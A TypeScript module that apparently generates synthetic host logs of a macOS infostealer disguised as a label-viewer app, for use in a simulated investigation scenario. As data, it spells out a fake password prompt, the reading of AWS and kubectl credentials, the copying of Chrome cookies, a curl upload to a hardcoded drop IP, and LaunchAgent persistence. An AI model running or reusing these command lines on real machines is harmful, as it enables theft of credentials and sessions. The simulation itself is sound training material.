import type { Person } from '../company.ts';
import { Random } from '../random.ts';
import { laptopOf, type Host } from './fleet.ts';
import type { HostLog } from './log.ts';
import { homeOf, shell } from './work.ts';

const SECOND = 1000;
const HOUR = 3_600_000;
/** Where the thief's second host takes what was found. */
const DROP = 'http://79.127.216.141';

/** What the stealer did on the laptop, by time. `reads` are those that opened the file of the keys. */
export interface HostStory {
  readonly host: Host;
  readonly told: readonly { readonly id: string; readonly ms: number; readonly what: string }[];
  readonly reads: readonly { readonly id: string; readonly ms: number }[];
  /** Those that copied the cookies of the browser. */
  readonly copies: readonly { readonly id: string; readonly ms: number }[];
}

/** Somebody else's first look at the contexts of kubectl. */
export interface FirstLook {
  readonly id: string;
  readonly ms: number;
  readonly user: string;
}

/**
 * A viewer for labels that is none. At 13:37 UTC the owner of the key opens it; it asks for the password, reads the file of the keys, the settings of kubectl and the cookies of the browser, and sends them away. What it left behind
 * reads the file of the keys again at 15:12, when the key of the day stands in it, and copies the cookies, among which is the session of the day.
 */
export function stealerDay(owner: Person, dayMs: number, seed: number, log: HostLog): HostStory {
  const host = laptopOf(owner)!;
  const random = new Random(seed, 'story', 'stealer');
  const home = homeOf(owner);
  const volume = '/Volumes/FreightLabel Viewer/FreightLabel Viewer.app/Contents/MacOS/FreightLabel Viewer';
  const agent = `${home}/Library/Application Support/FreightLabel/labelagent`;
  const told: { id: string; ms: number; what: string }[] = [];
  const reads: { id: string; ms: number }[] = [];
  const run = (seconds: number, what: string, path: string, args: readonly string[], parent: string, unsigned = false): void => {
    const ms = dayMs + 13 * HOUR + seconds * SECOND + random.between(0, 999);
    const id = log.run({ ms, host, user: owner.name, path, args, parent, cwd: home, unsigned }, random);
    told.push({ id, ms, what });
    if (what === 'key-file') reads.push({ id, ms });
  };
  run(36 * 60 + 10, 'image', '/usr/bin/hdiutil', ['/usr/bin/hdiutil', 'attach', `${home}/Downloads/FreightLabel-Viewer-2.4.dmg`, '-nobrowse'], '/System/Library/CoreServices/DiskImageMounter.app/Contents/MacOS/DiskImageMounter');
  run(37 * 60 + 2, 'installer', volume, [volume], '/sbin/launchd', true);
  run(37 * 60 + 5, 'password', '/usr/bin/osascript', ['osascript', '-e', 'display dialog "FreightLabel Viewer needs your password to continue." default answer "" with hidden answer'], volume);
  run(37 * 60 + 41, 'shell', '/bin/bash', ['/bin/bash', '-c', `cat ${home}/.aws/credentials > /tmp/.fl/a; cat ${home}/.kube/config > /tmp/.fl/k`], volume);
  run(37 * 60 + 42, 'key-file', '/bin/cat', ['cat', `${home}/.aws/credentials`], '/bin/bash');
  run(37 * 60 + 43, 'kube-file', '/bin/cat', ['cat', `${home}/.kube/config`], '/bin/bash');
  run(37 * 60 + 46, 'cookies', '/bin/cp', ['cp', `${home}/Library/Application Support/Google/Chrome/Default/Cookies`, '/tmp/.fl/c'], '/bin/bash');
  run(37 * 60 + 52, 'packed', '/usr/bin/zip', ['zip', '-qr', '/tmp/.fl.zip', '/tmp/.fl'], '/bin/bash');
  run(38 * 60 + 3, 'sent', '/usr/bin/curl', ['curl', '-s', '-F', 'f=@/tmp/.fl.zip', `${DROP}/u`], '/bin/bash');
  run(38 * 60 + 20, 'agent', '/bin/launchctl', ['launchctl', 'load', `${home}/Library/LaunchAgents/com.freightlabel.agent.plist`], '/bin/bash');
  // The owner, who notices nothing.
  run(3600 + 51 * 60 + 30, 'owner', '/opt/homebrew/bin/saml2aws', ['saml2aws', 'login', '-a', 'freight'], shell);
  run(3600 + 54 * 60, 'owner', '/opt/homebrew/bin/kubectl', ['kubectl', 'get', 'pods', '-n', 'freight'], shell);
  run(2 * 3600 + 12 * 60 + 30, 'key-file', '/bin/cat', ['cat', `${home}/.aws/credentials`], agent, false);
  run(2 * 3600 + 12 * 60 + 31, 'cookies', '/bin/cp', ['cp', `${home}/Library/Application Support/Google/Chrome/Default/Cookies`, '/tmp/.fl/c'], agent);
  run(2 * 3600 + 12 * 60 + 33, 'sent', '/usr/bin/curl', ['curl', '-s', '-F', 'f=@/tmp/.fl/a', `${DROP}/u`], agent);
  return { host, told, reads, copies: told.filter((one) => one.what === 'cookies') };
}
